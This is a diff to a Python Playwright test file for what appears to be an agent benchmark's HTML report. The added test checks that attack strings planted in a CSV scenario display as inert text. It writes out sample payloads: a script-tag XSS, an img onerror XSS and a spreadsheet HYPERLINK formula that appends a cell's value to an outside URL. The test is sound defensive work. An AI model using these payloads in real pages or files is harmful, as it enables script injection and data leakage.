@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import shutil
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass, field, replace
 from itertools import combinations
 from pathlib import Path
@@ -29,7 +30,15 @@ from bench.analysis.economics import (
 from bench.analysis.rates import bounds
 from bench.analysis.summary import candidates_of
 from bench.journal import read_run
+from bench.manifest import Settings
+from bench.models import open_model
+from bench.plan import ScenarioRun
 from bench.report import ReportPaths, html, write_report
+from bench.runner import Plan
+from bench.session import ideal_calls
+from scenarios import scenario
+from scenarios.csv_reconciliation.strata.attacked import attacks
+from tests.running import run_plan
 from tests.synthetic import HOSTILE, LOCAL, Shape, write_run
 
 PHONE = {"width": 390, "height": 844}
@@ -315,6 +324,40 @@ def test_hostile_text_is_shown_and_does_nothing(browser: Browser, written: Repor
         page.evaluate("name => open(name)", tab)
     assert page.title().startswith("Agent or job?")
     assert page.locator("img, iframe, object").count() == 0
+    assert page.locator("script").count() == scripts
+    assert found.complaints == []
+
+
+def test_what_stands_in_a_customer_file_is_shown_and_does_nothing(
+    browser: Browser, tmp_path: Path
+) -> None:
+    """HTML, scripts and formulas in names, as an agent read and stored them."""
+    wanted = {
+        each.name: each.text for each in attacks() if each.name.startswith(("html", "formula"))
+    }
+    cases = scenario("csv_reconciliation").cases({"hostile_cell": len(attacks())}, 2026)
+    chosen = [replace(case, twin=None) for case in cases if case.variant in wanted]
+    each = ScenarioRun(scenario("csv_reconciliation"), {}, tuple(chosen), frozenset())
+    model = open_model("reference", ideal=ideal_calls([each]), results=tmp_path)
+    plan = Plan((each,), (model,), Settings(approaches=("agent",)))
+    with ThreadPoolExecutor() as pool:  # playwright has an event loop running in this thread
+        pool.submit(run_plan, plan, tmp_path / "run").result()
+    found = opened(browser, write_report(tmp_path / "run").html, DESKTOP, "light")
+    page = found.page
+    scripts = page.locator("script").count()
+    show(page, "trials")
+    shown = ""
+    for row in range(len(chosen)):
+        page.locator("#trial-table tbody tr").nth(row).locator("a").first.click()
+        page.locator("#transcript .block").first.wait_for()
+        shown += page.locator("#transcript").inner_text()
+        page.keyboard.press("Escape")
+    # In the transcript a row is a line of CSV, in which quotes are doubled.
+    assert "<script>document.title='owned'</script>" in shown
+    assert '<img src=x onerror=""document.title=\'owned\'"">' in shown
+    assert '=HYPERLINK(""http://example.com/""&A1,""Annegret"")' in shown
+    assert page.title().startswith("Agent or job?")
+    assert page.locator("#transcript a[href^=http], img, iframe, object").count() == 0
     assert page.locator("script").count() == scripts
     assert found.complaints == []
 
